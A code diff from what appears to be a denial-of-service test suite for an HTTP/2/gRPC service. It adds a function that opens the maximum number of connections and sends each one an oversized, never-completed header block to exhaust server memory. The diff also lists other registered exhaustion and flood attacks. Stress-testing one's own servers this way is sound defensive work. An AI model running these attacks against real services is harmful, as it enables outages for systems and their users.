@@ -147,6 +147,17 @@ def fat_headers(address: str) -> None:
         time.sleep(HELD)
 
 
+def unfinished_headers(address: str) -> None:
+    """As many clients as there are places begin with headers that were sent once and come again in a byte each, and never end them."""
+    value = bytes((0x7F,)) + _varint(4000 - 0x7F) + b"x" * 4000
+    block = bytes((0x40, 1)) + b"a" + value + b"\xbe" * 60
+    with clients(address, Limits().connections) as many:
+        for client in many:
+            with suppress(OSError, ngh2.NGH2Error):
+                client.socket.sendall(client.h2.data_to_send() + _frame(1, 1, block))
+        time.sleep(HELD)
+
+
 MEMORY: Final[dict[str, Attack]] = {
     "padded questions": padding,
     "questions that all differ": different,
@@ -157,8 +168,9 @@ MEMORY: Final[dict[str, Attack]] = {
     "endless questions": partial(endless, f"{SERVICE}/CheckProcessing"),
     "endless batches": partial(endless, f"{SERVICE}/BatchCheckProcessing"),
     "fat headers": fat_headers,
+    "unfinished headers": unfinished_headers,
 }
-"""What makes a server hold much, by what it sends."""
+"""The attacks that make a server hold much, by what they send."""
 
 
 # --- places -----------------------------------------------------------------------------------------------------------------------------
@@ -206,7 +218,7 @@ PLACES: Final[dict[str, Attack]] = {
     "silent clients": saying_nothing,
     "clients that come and go": coming_and_going,
 }
-"""What holds places."""
+"""The attacks that hold places."""
 
 
 # --- frames without end -----------------------------------------------------------------------------------------------------------------
@@ -268,7 +280,7 @@ def resets(address: str) -> None:
 
 
 FLOODS: Final[dict[str, Attack]] = {**{name: partial(flood, frame) for name, frame in FRAMES.items()}, "resets": resets}
-"""What sends frames without end."""
+"""The attacks that send frames without end."""
 
 
 def _varint(number: int) -> bytes:
